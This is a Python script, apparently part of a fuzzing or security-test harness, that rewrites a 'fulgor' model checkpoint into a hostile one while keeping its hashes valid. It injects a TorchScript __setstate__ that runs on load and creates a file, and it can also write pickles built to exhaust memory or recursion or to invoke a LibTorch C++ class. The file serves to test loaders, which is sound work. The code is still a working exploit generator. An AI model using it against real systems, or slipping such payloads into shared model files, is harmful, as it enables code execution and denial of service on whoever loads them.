#!/usr/bin/env python3
"""Plants hostile contents into a fulgor checkpoint, keeping its header and
chunk hashes valid (a checksum is not a signature):

    plant_archive.py CHECKPOINT OUT KIND [MARKER]

(for deep_tuple, MARKER is the depth instead, a million by default)

KIND:
  setstate    the module class of the parameter "w" gets a __setstate__,
              compiled by torch.jit from Python, that creates MARKER
              (torch.from_file(MARKER, shared=True) creates the file);
  deep_tuple  data.pkl is a tuple nested a million deep;
  memo_huge   data.pkl writes memo entry 2^32-1;
  torchbind   data.pkl names a LibTorch C++ class (whose __setstate__ is C++).

Also writes OUT.zip, the bare archive, for LibTorch to read directly.
"""

import io
import os
import re
import sys
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fuzz"))
from checkpoint_seeds import container  # noqa: E402

SETSTATE = '''
import torch
from typing import Dict

class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(1))

    def forward(self):
        return self.w

    @torch.jit.export
    def __getstate__(self) -> Dict[str, torch.Tensor]:
        return {"w": self.w}

    @torch.jit.export
    def __setstate__(self, state: Dict[str, torch.Tensor]) -> None:
        self.w = state["w"] + 0 * torch.from_file(MARKER, True, 1)
'''


def setstate_methods(marker, folder):
    """The TorchScript source of Evil's methods, as torch.jit writes it
    (torch.jit reads a class's Python source from its file)."""
    import importlib.util
    import torch
    source = os.path.join(folder, "evil_module.py")
    with open(source, "w") as f:
        f.write(SETSTATE.replace("MARKER", repr(marker)))
    spec = importlib.util.spec_from_file_location("evil_module", source)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(module.Evil()), buf)
    with zipfile.ZipFile(buf) as z:
        code = next(z.read(n).decode() for n in z.namelist() if n.endswith(".py") and b"__setstate__" in z.read(n))
    # LibTorch runs a __setstate__ only beside a __getstate__.
    getstate, setstate = code.index("  def __getstate__"), code.index("  def __setstate__")
    methods = code[setstate:] + code[getstate:setstate]
    return methods.replace(re.search(r"self: ([\w.]+)", methods).group(1), "CLASS")


def main(path, out, kind, marker=None):
    with open(path, "rb") as f:
        data = f.read()
    length = int.from_bytes(data[12:20], "little")
    source = zipfile.ZipFile(io.BytesIO(data[28:28 + length]))
    records = {n: source.read(n) for n in source.namelist()}
    folder = next(iter(records)).split("/")[0]
    if kind == "setstate":
        name = next(n for n in records if n.endswith(".py") and b"\n  w : Tensor" in records[n])
        cls = "__torch__." + name[len(folder + "/code/__torch__/"):-3] + ".Module"
        methods = setstate_methods(marker, os.path.dirname(os.path.abspath(out))).replace("CLASS", cls)
        records[name] = records[name].rstrip(b"\n") + b"\n" + methods.encode()
    elif kind == "deep_tuple":
        records[folder + "/data.pkl"] = b"\x80\x02)" + b"\x85" * int(marker or 1000000) + b"."
    elif kind == "memo_huge":
        records[folder + "/data.pkl"] = b"\x80\x02)r\xff\xff\xff\xff."
    elif kind == "torchbind":
        records[folder + "/data.pkl"] = (b"\x80\x02c__torch__.torch.classes.quantized\nLinearPackedParamsBase\n"
                                         b")\x81)b.")
    else:
        raise SystemExit(f"unknown kind {kind}")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, content in records.items():
            z.writestr(name, content)
    archive = buf.getvalue()
    with open(out, "wb") as f:
        f.write(container(archive))
    with open(out + ".zip", "wb") as f:
        f.write(archive)


if __name__ == "__main__":
    main(*sys.argv[1:])
